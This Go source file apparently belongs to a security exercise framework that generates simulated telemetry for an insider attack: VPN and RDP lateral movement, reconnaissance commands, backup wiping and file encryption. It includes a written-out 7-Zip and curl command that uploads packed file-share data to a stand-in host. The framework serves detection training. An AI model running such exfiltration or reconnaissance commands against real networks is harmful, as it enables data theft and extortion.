// SPDX-FileCopyrightText: 2026 The Citywall Authors
// SPDX-License-Identifier: Apache-2.0

package exercise

import (
	"fmt"
	"math/rand/v2"
	"time"

	"citywall/exercise/act"
	"citywall/exercise/city"
)

// insider is an intruder who has all that an administrator has, and never does
// what the administrator would not: over the VPN to his own desk in the evening,
// from there to the jump host, from there to servers, one or two an evening, for
// days. No sweep, no implant, no memory read. A little leaves every night. On
// the last night the backups go, and what he has visited is encrypted.
//
//	outside --vpn--> pool address --rdp--> desk --rdp--> dib-jump01
//	dib-jump01 --rdp or winrm--> servers, dib-fs01 --exfiltration--> outside, --winrm--> dib-bak01
func insider(g *stage) {
	b := g.c.Bureau
	admin := b.Domain.Admins[g.r.IntN(len(b.Domain.Admins))]
	self, desk := admin.Self, admin.Home
	caller, inner, vault := g.caller(), g.inner(), act.End{Addr: g.outsider()}
	station := "DESKTOP-" + g.serial()
	k := kit{"." + g.word(6), "!_RESTORE_!.txt", g.word(5) + ".exe"}
	finale := g.begin.Add(g.dwell)
	evenings := max(2, int(g.dwell/(24*time.Hour))+1)
	visits := []*city.Host{b.File, g.named("dib-db01"), g.named("dib-app01"), g.named("dib-app02"), g.c.Agencies[2].File}
	g.r.Shuffle(len(visits)-1, func(i, j int) { visits[1+i], visits[1+j] = visits[1+j], visits[1+i] })

	for n := range evenings {
		from := g.begin.Add(time.Duration(n) * 24 * time.Hour).Add(seconds(float64(n) * (g.r.Float64() - 0.5) * 900))
		until := from.Add(time.Duration(100+g.r.IntN(60)) * time.Minute)
		last := n == evenings-1
		if last {
			from, until = finale.Add(-2*time.Hour), finale.Add(10*time.Minute)
		}
		g.tunnel(from, self, caller, inner, until.Add(3*time.Minute))
		in := g.arrive(from.Add(seconds(40+60*g.r.Float64())), inner, station, desk, self, until, TruthEntry{Kind: "vpn", Vector: self.String(), External: caller.Addr})
		jump := g.rdp(from.Add(time.Duration(6+g.r.IntN(6))*time.Minute), in, b.Jump, admin, until)
		at := from.Add(18 * time.Minute)
		if n == 0 {
			g.looks(at, jump, "whoami /groups", "net group \"Domain Admins\" /domain", "dsquery computer -limit 0")
		}
		for i, x := range visits { // each on an evening of its own, as far as there are so many
			if i*(evenings-1)/len(visits) != n && !last {
				continue
			}
			at = at.Add(time.Duration(8+g.r.IntN(9)) * time.Minute)
			if last {
				h := g.winrm(finale.Add(time.Duration(i-12)*time.Minute), jump, x, admin, 15*time.Minute)
				g.locks(finale.Add(seconds(float64(5*i)+20*g.r.Float64())), h, k, 180+g.r.IntN(100))
				continue
			}
			h := g.rdp(at, jump, x, admin, at.Add(time.Duration(6+g.r.IntN(10))*time.Minute))
			g.looks(at.Add(2*time.Minute), h, "systeminfo", "net view /domain")
		}
		if n > 0 && !last || evenings == 2 && n == 0 { // a little leaves
			fs := g.winrm(from.Add(70*time.Minute), jump, b.File, admin, 25*time.Minute)
			g.trickles(from.Add(73*time.Minute), fs, vault)
		}
		if last {
			g.wipes(finale.Add(-40*time.Minute), jump, b.Backup, admin)
		}
	}
}

// trickles packs some folders of a file server and sends them out in pieces
// that are smaller than what communications staff send.
func (g *stage) trickles(at time.Time, h *hold, vault act.End) {
	g.at(at, func(r *rand.Rand, t time.Time) {
		pack := fmt.Sprintf(`D:\Temp\%c%d.7z`, 'a'+r.IntN(26), r.IntN(900))
		z, _ := g.s.Start(r, t, h.who, h.shell, `C:\Program Files\7-Zip\7z.exe`, `"C:\Program Files\7-Zip\7z.exe" a -mhe=on -v200m `+pack+` D:\Share\forms`)
		g.s.File(r, t.Add(5*time.Second), z, pack+".001")
		tool, command := `C:\Windows\System32\curl.exe`, `curl.exe -s -T `+pack+`.001 https://files.dropnest.example/u/`
		if g.opt.has(StealthTools) {
			tool = own(r, `C:\ProgramData`)
			command = tool + " " + pack
		}
		p, seen := g.s.Start(r, t.Add(4*time.Minute), h.who, h.shell, tool, command)
		g.step(seen, h.Host, "exfiltration", "T1567.002")
		t = t.Add(4*time.Minute + 2*time.Second)
		g.s.Resolve(r, t, h.Host, "files.dropnest.example", vault.Addr)
		g.s.Asked(r, t, p, "files.dropnest.example", vault.Addr)
		for i := range 2 + r.IntN(3) {
			_, seen := g.s.TLS(r, t.Add(time.Duration(i)*80*time.Second), act.Conn{Src: act.On(h.Host), Dst: vault, Name: "files.dropnest.example", Out: 120_000_000 + r.Int64N(140_000_000), In: 900_000, For: 70 * time.Second, By: &p})
			g.hop(seen, act.On(h.Host), vault, 443, nil, "exfiltration", "T1567.002")
		}
	})
}

// named is the machine of a name.
func (g *stage) named(key string) *city.Host {
	for _, h := range g.c.Hosts {
		if h.Key() == key {
			return h
		}
	}
	panic("exercise: no machine named " + key)
}
